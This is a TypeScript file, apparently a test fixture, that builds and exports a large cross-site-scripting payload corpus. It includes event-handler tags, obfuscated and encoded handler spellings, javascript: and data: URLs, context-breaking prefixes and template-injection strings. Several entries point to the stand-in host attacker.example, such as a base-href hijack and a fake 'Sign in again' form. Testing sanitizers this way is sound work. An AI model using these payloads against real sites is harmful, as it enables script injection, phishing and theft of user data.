/**
 * What an attacker would write where people read: every way to run a script out of text that some page took for markup,
 * for an address, or for a template. Each string tells on itself: it opens a dialog, sets `window.owned`, or asks a host.
 */
const run = 'window.owned=1;alert(1)';
const host = 'http://attacker.example';

/** Elements that run a handler without anybody touching them. */
const elements: readonly ((handled: string) => string)[] = [
  (code) => `<img src=x onerror=${code}>`,
  (code) => `<svg onload=${code}>`,
  (code) => `<body onload=${code}>`,
  (code) => `<input autofocus onfocus=${code}>`,
  (code) => `<select autofocus onfocus=${code}>`,
  (code) => `<textarea autofocus onfocus=${code}>`,
  (code) => `<video src=x onerror=${code}>`,
  (code) => `<audio src=x onerror=${code}>`,
  (code) => `<video><source onerror=${code}></video>`,
  (code) => `<details open ontoggle=${code}>`,
  (code) => `<marquee onstart=${code}>`,
  (code) => `<iframe onload=${code}>`,
  (code) => `<object data=x onerror=${code}>`,
  (code) => `<link rel=stylesheet href=x onerror=${code}>`,
  (code) => `<style onload=${code}></style>`,
  (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  (code) => `<div style="animation:x 1s" onanimationstart=${code}>`,
  (code) => `<p tabindex=0 autofocus onfocus=${code}>`,
  (code) => `<script src=x onerror=${code}></script>`,
];

/** Ways to write the handler, for those who look for the obvious one. */
const spellings: readonly string[] = [
  run,
  `"${run}"`,
  `'${run}'`,
  '"&#x61;lert(1)"',
  '"&#97;lert&lpar;1&rpar;"',
  '"\\u0061lert(1)"',
  'alert`1`',
  `"eval(atob('YWxlcnQoMSk='))"`,
  `"(function(){${run}})()"`,
  `"top['al'+'ert'](1)"`,
];

/** Addresses that are code, for links and media. */
const addresses: readonly string[] = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  ` javascript:${run}`,
  `javascript&colon;${run}`,
  `&#106;avascript:${run}`,
  `javascript://%0a${run}`,
  `data:text/html,<script>${run}</script>`,
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  `data:image/svg+xml,<svg onload="${run}"/>`,
  `vbscript:msgbox(1)`,
  `${host}/a`,
  '//attacker.example/b',
  '\\\\attacker.example\\c',
];
const takers: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">click</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<img src="${address}">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `[click](${address})`,
  (address) => address,
];

/** Ways out of the place a string was put into, before a script. */
const escapes: readonly string[] = [
  '',
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '</script>',
  '</style>',
  '</title>',
  '</textarea>',
  '</noscript>',
  '</template>',
  '</svg>',
  '</math><mglyph><style><!--</style>',
  '\u000b',
  '\u202e',
  '\\">',
  '%22%3E',
];

/** For templates, diagrams, prototypes and formats. */
const others: readonly string[] = [
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '{{7*7}}',
  '[[${alert(1)}]]',
  '__proto__',
  'constructor',
  '{"__proto__":{"owned":1}}',
  'person->>router: <img src=x onerror=alert(1)>',
  `click person "javascript:${run}"`,
  '%%{init: {"securityLevel": "loose"}}%%',
  `;alert(1)//`,
  `';alert(1)//`,
  `\\';alert(1)//`,
  '</p><base href="http://attacker.example/">',
  '<form action="http://attacker.example/"><button autofocus>Sign in again</button></form>',
  '<link rel=prefetch href=http://attacker.example/p>',
  '<style>@import "http://attacker.example/s.css";</style>',
  '<style>*{background:url(http://attacker.example/i)}</style>',
  '<xss style="x:expression(alert(1))">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '＜script＞alert(1)＜/script＞',
  '<ſcript>alert(1)</ſcript>',
];

export const xssCorpus: readonly string[] = [
  ...elements.flatMap((element) => spellings.map(element)),
  ...takers.flatMap((taker) => addresses.map(taker)),
  ...escapes.flatMap((escape) => [`${escape}<script>${run}</script>`, `${escape}<img src=x onerror=${run}>`]),
  ...others,
];

/** Those that fit where only so many characters do. */
export const xssOfAtMost = (length: number): readonly string[] =>
  xssCorpus.filter((text) => text.length <= length && text.trim() !== '' && !/\p{Cc}/u.test(text));
